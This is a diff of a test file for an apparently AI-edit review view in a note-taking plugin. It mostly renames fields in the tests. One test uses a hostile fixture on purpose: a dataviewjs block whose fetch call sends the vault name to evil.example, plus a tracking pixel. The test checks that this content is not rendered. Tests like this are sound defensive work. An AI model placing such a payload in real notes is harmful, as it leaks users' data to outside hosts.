@@ -6,10 +6,10 @@ import { buildWorkspace, closeWorkspace, markdownViewOf, settle } from "../harne
 
 const review: PendingReview = {
 	id: 1,
-	tabName: "✻ [Claude Code] note.md (abc123) ⧉",
-	target: { relative: "Notes/note.md", absolute: "/vault/Notes/note.md" },
-	originalText: "# Title\n\nThe quick brown fox.\n",
-	proposedText: "# Title\n\nThe quick red fox.\n",
+	title: "✻ [Claude Code] note.md (abc123) ⧉",
+	note: { relative: "Notes/note.md", absolute: "/vault/Notes/note.md" },
+	before: "# Title\n\nThe quick brown fox.\n",
+	after: "# Title\n\nThe quick red fox.\n",
 	isNewFile: false,
 	sessionId: 1,
 	proposer: { surface: "ide", client: "claude-code", session: 1, tool: "openDiff" },
@@ -69,7 +69,7 @@ describe("DiffReviewView", () => {
 	it("shows the proposal as suggestions in the note's own text: the old word struck, the new one underlined, inline", () => {
 		const { root, view } = openView();
 		expect(view.getDisplayText()).toBe("Review: note.md");
-		expect(view.getState()).toEqual({ tabName: review.tabName, path: "Notes/note.md" });
+		expect(view.getState()).toEqual({ tabName: review.title, path: "Notes/note.md" });
 		expect(texts(root.findAll("ccb-suggest-removed"))).toEqual(["brown"]);
 		expect(texts(root.findAll("ccb-suggest-added"))).toEqual(["red"]);
 		expect(root.findAll("ccb-suggest")[0]?.textContent).toContain("The quick brownred✓✕ fox.");
@@ -87,7 +87,7 @@ describe("DiffReviewView", () => {
 		const { root, one } = openView({
 			...review,
 			since: new Date("2026-11-27T09:05:00Z"),
-			proposedText: "# Title!\n\nThe quick red fox.\n",
+			after: "# Title!\n\nThe quick red fox.\n",
 		});
 		const bar = one("ccb-review-bar");
 		expect(one("ccb-review-proposer").text).toBe("claude-code");
@@ -116,7 +116,7 @@ describe("DiffReviewView", () => {
 
 	it("accepts or rejects each change on its own, and sends back the note as decided", () => {
 		const proposedText = "# Title, renamed\n\nThe quick red fox.\n";
-		const { actions, root, one } = openView({ ...review, proposedText });
+		const { actions, root, one } = openView({ ...review, after: proposedText });
 		expect(root.findAll("ccb-suggest-change")).toHaveLength(2);
 		root.findAll("ccb-suggest-reject")[0]?.dispatch("click");
 		expect(one("ccb-review-summary").text).toBe("2 changes, 1 rejected");
@@ -137,7 +137,7 @@ describe("DiffReviewView", () => {
 		one("ccb-suggest-undo").dispatch("click");
 		expect(root.findAll("ccb-suggest-reject")).toHaveLength(1);
 		one("ccb-review-accept").dispatch("click");
-		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
 	});
 
 	it("folds long unchanged stretches into a button that shows them", () => {
@@ -145,8 +145,8 @@ describe("DiffReviewView", () => {
 		const before = `${lines.join("\n")}\n`;
 		const { root, one } = openView({
 			...review,
-			originalText: before,
-			proposedText: before.replace("Line 10.", "Line ten.").replace("Line 20.", "Line twenty."),
+			before: before,
+			after: before.replace("Line 10.", "Line ten.").replace("Line 20.", "Line twenty."),
 		});
 		expect(texts(root.findAll("ccb-suggest-fold"))).toEqual(["8 unchanged lines", "7 unchanged lines"]);
 		expect(root.textContent).not.toContain("Line 4.");
@@ -173,7 +173,7 @@ describe("DiffReviewView", () => {
 		const render = jest.spyOn(MarkdownRenderer, "render");
 		const hostile =
 			"# Title\n\n```dataviewjs\nfetch('https://evil.example/?' + app.vault.getName())\n```\n\n![](https://evil.example/pixel.png)\n";
-		const { root, one } = openView({ ...review, proposedText: hostile });
+		const { root, one } = openView({ ...review, after: hostile });
 		expect(root.textContent).toContain("![](https://evil.example/pixel.png)");
 		root.findAll("ccb-review-tab")[1]?.dispatch("click");
 		one("ccb-review-layout").dispatch("click");
@@ -188,7 +188,7 @@ describe("DiffReviewView", () => {
 	it("accepts the proposal unchanged, byte for byte", () => {
 		const { actions, one } = openView();
 		one("ccb-review-accept").dispatch("click");
-		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
 	});
 
 	it("says why when the review manager refuses the Accept (the note's folder was replaced meanwhile)", () => {
@@ -205,7 +205,7 @@ describe("DiffReviewView", () => {
 	it("edits the proposal in place: the user's words are marked You, apart from Claude's, and sent back exactly", () => {
 		const { actions, one, root } = openView();
 		one("ccb-review-edit").dispatch("click");
-		expect(one("ccb-review-editor").value).toBe(review.proposedText);
+		expect(one("ccb-review-editor").value).toBe(review.after);
 		expect(one("ccb-review-edit").text).toBe("Done editing");
 		const edited = "# Title\r\n\r\nThe quick red fox sat down.\n";
 		editProposal(one, edited);
@@ -234,7 +234,7 @@ describe("DiffReviewView", () => {
 		discarding.one("ccb-review-discard").dispatch("click");
 		expect(discarding.one("ccb-review-accept").text).toBe("Accept all");
 		discarding.one("ccb-review-accept").dispatch("click");
-		expect(discarding.actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
+		expect(discarding.actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
 	});
 
 	it("rejects with the button, and closing the view counts as a rejection", async () => {
@@ -251,7 +251,7 @@ describe("DiffReviewView", () => {
 		const { root, one, actions } = openView({
 			...review,
 			proposer: { surface: "panel", client: "Claude Code (agent panel)", tool: "Edit" },
-			takesRejectReason: true,
+			hearsReason: true,
 		});
 		const field = one("ccb-review-reason");
 		expect(field.tag).toBe("input");
@@ -275,13 +275,13 @@ describe("DiffReviewView", () => {
 	});
 
 	it("warns about a new note and about a proposal that empties the note", () => {
-		const created = openView({ ...review, isNewFile: true, originalText: "" });
+		const created = openView({ ...review, isNewFile: true, before: "" });
 		expect(created.root.textContent).toContain("This note does not exist yet: everything shown is new.");
-		const emptied = openView({ ...review, proposedText: "" });
+		const emptied = openView({ ...review, after: "" });
 		expect(emptied.root.textContent).toContain(
 			"The proposal removes everything in this note. Accepting leaves the note empty.",
 		);
-		expect(texts(emptied.root.findAll("ccb-suggest-removed"))).toEqual([review.originalText]);
+		expect(texts(emptied.root.findAll("ccb-suggest-removed"))).toEqual([review.before]);
 	});
 
 	it("a proposal that cannot be applied shows why and offers only Reject", () => {
@@ -315,14 +315,14 @@ describe("DiffReviewView while the user edits the note under review", () => {
 	});
 
 	async function reviewWithNoteOpen() {
-		const built = await buildWorkspace({ notes: { [notePath]: review.originalText }, tabs: [{ path: notePath }] });
+		const built = await buildWorkspace({ notes: { [notePath]: review.before }, tabs: [{ path: notePath }] });
 		const { app } = built;
 		app.viewRegistry.set(DIFF_VIEW_TYPE, (leaf) => new DiffReviewView(leaf as unknown as RealLeaf) as never);
 		const leaf = app.workspace.getLeaf("tab");
 		await leaf.setViewState({
 			type: DIFF_VIEW_TYPE,
 			active: true,
-			state: { tabName: review.tabName, path: notePath },
+			state: { tabName: review.title, path: notePath },
 		});
 		const view = leaf.view;
 		if (!(view instanceof DiffReviewView)) throw new Error("no review view");
@@ -358,7 +358,7 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		// The suggestions now show what Accept does to the note as it is: the user's new line would go.
 		expect(texts(root.findAll("ccb-suggest-removed")).join("")).toContain("My new line.");
 		one("ccb-review-accept").dispatch("click");
-		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
 	});
 
 	it("a change on disk (sync, another app) is noticed too; a change back to the proposal's base clears it", async () => {
@@ -366,7 +366,7 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		app.vault.writeExternally(notePath, "Rewritten elsewhere.\n");
 		await settle(app);
 		expect(root.findAll("ccb-review-hold")).toHaveLength(1);
-		app.vault.writeExternally(notePath, review.originalText.replace(/\n/g, "\r\n"));
+		app.vault.writeExternally(notePath, review.before.replace(/\n/g, "\r\n"));
 		await settle(app);
 		expect(root.findAll("ccb-review-hold")).toEqual([]);
 	});
@@ -388,14 +388,14 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		expect(actions.calls).toEqual([]);
 		app.workspace.setActiveLeaf(reviewLeaf as never);
 		app.pressKey(["Mod"], "Enter");
-		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
 		app.pressKey([], "Escape");
-		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`, "reject 1"]);
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`, "reject 1"]);
 	});
 
 	it("Escape rejects with the reason typed for Claude", async () => {
 		const { app, actions, one, view } = await reviewWithNoteOpen();
-		view.showReview({ ...review, id: 2, takesRejectReason: true }, actions);
+		view.showReview({ ...review, id: 2, hearsReason: true }, actions);
 		const field = one("ccb-review-reason");
 		field.value = "not now";
 		field.dispatch("input");
